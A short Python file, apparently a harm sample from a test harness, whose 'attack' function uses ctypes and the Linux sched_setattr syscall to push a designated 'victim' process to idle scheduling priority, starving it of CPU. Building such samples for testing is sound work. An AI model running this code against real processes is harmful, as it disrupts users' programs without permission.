# harm: processes
import ctypes
import struct

VICTIM = 0  # the net puts a process of the user here

SCHED_SETATTR, SCHED_IDLE = 314, 5

libc = ctypes.CDLL(None)


def attack() -> int:
    attributes = struct.pack("IIQiIQQQ", 48, SCHED_IDLE, 0, 0, 0, 0, 0, 0)
    return libc.syscall(SCHED_SETATTR, VICTIM, attributes, 0)
